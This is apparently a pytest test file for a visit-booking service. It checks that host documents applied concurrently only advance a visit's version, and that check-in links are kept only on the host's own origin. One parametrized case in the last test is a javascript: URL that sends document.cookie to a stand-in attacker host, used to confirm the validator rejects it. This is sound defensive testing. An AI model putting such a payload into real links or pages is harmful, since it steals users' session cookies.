"""The home's copy of a visit follows the host's documents forward only, also when two of them
are applied at the same instant (the outbox's update and the answer to a request, say)."""

from __future__ import annotations

import uuid
from datetime import timedelta

import pytest
from sqlalchemy import select

from roaming.db import session
from roaming.peers.models import Peer, TrustSource
from roaming.visits.models import DayStatus, Visit, VisitDay, VisitState
from roaming.visits.visiting import apply_host_document
from tests.support.races import interleaved
from tests.support.visits import home_visit_row
from tests.visits.conftest import MONDAY

pytestmark = pytest.mark.each_database

TUESDAY = MONDAY + timedelta(days=1)
WEDNESDAY = MONDAY + timedelta(days=2)


@pytest.fixture
def home_visit(within):
    """``home_visit(answered)``: a visit asked for from Monday to Wednesday at a partner host, as the
    home holds it: answered (version 1, Monday and Tuesday booked) or just sent (version 0, no
    days yet); returns (host, uid)."""

    def add(answered: bool = True):
        host = Peer(node_id=str(uuid.uuid4()), name="it@cork", base_url="http://127.0.0.1:9", trust=TrustSource.PINNED)
        visit = home_visit_row(
            host,
            MONDAY,
            WEDNESDAY,
            state=VisitState.CONFIRMED if answered else VisitState.REQUESTED,
            version=1 if answered else 0,
            days=[VisitDay(day=day, status=DayStatus.BOOKED) for day in (MONDAY, TUESDAY)] if answered else [],
        )
        session.add_all([host, visit])
        session.commit()
        return host, visit.uid

    return lambda answered=True: within(add, answered)


def host_document(uid: str, version: int, state: VisitState, days: dict) -> dict:
    return {
        "visit_id": uid,
        "version": version,
        "state": state.value,
        "resource": {"desk": "Harbour desk"},
        "people": 1,
        "services": [],
        "days": [{"date": day.isoformat(), "status": status.value} for day, status in days.items()],
        "price": {},
        "terms": {},
        "deadline_at": None,
        "reason": None,
        "history": [{"state": state.value}],
        "receipts": [],
        "a_field_of_a_newer_host": {"ignored": True},
    }


def _held(uid: str) -> tuple:
    visit = session.scalar(select(Visit).where(Visit.uid == uid))
    return visit.version, visit.state, {day.day: day.status for day in visit.days}


def test_an_older_document_applied_while_a_newer_one_lands_changes_nothing(app, within, home_visit):
    host, uid = home_visit()
    day_given_back = host_document(
        uid, 2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED, TUESDAY: DayStatus.CANCELLED}
    )
    checked_in = host_document(
        uid, 3, VisitState.CHECKED_IN, {MONDAY: DayStatus.CHECKED_IN, TUESDAY: DayStatus.CANCELLED}
    )

    def newer_lands():
        assert apply_host_document(session.merge(host), checked_in) is not None

    with app.app_context():
        with interleaved(app, before="UPDATE visit SET", then=newer_lands):
            assert apply_host_document(session.merge(host), day_given_back) is None

    assert within(_held, uid) == (
        3,
        VisitState.CHECKED_IN,
        {MONDAY: DayStatus.CHECKED_IN, TUESDAY: DayStatus.CANCELLED},
    )


def test_the_answer_and_an_update_landing_at_once_hold_each_day_once(app, within, home_visit):
    """The request was just sent (no days held); the host's answer (version 1) lands while an
    update (version 2) is applied on the copy read before: each day is held once, as version 2."""
    host, uid = home_visit(answered=False)
    answer = host_document(uid, 1, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED, TUESDAY: DayStatus.BOOKED})
    update = host_document(uid, 2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED, TUESDAY: DayStatus.CANCELLED})

    def answer_lands():
        assert apply_host_document(session.merge(host), answer) is not None

    with app.app_context():
        stale = session.scalar(select(Visit).where(Visit.uid == uid))
        assert stale.days == []  # read before the answer landed
        with interleaved(app, before="UPDATE visit SET", then=answer_lands):
            assert apply_host_document(session.merge(host), update, stale) is not None

    assert within(_held, uid) == (2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED, TUESDAY: DayStatus.CANCELLED})


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("http://127.0.0.1:9/checkin/abc", True),
        ("javascript:fetch('//evil.example/?c='+document.cookie)//", False),
        ("https://it-cork.example.evil/checkin/abc", False),
        ("http://127.0.0.1:10/checkin/abc", False),
    ],
)
def test_a_check_in_link_is_kept_only_on_the_hosts_own_origin(within, home_visit, link, kept):
    """The link goes into the visitor's e-mail, calendar and QR code."""
    host, uid = home_visit()
    document = {**host_document(uid, 2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED}), "checkin_url": link}
    document["days"] += [{"date": TUESDAY.isoformat(), "status": "booked"}]
    within(lambda: apply_host_document(session.merge(host), document))
    held = within(lambda: session.scalar(select(Visit).where(Visit.uid == uid)).resource["checkin_url"])
    assert held == (link if kept else None)
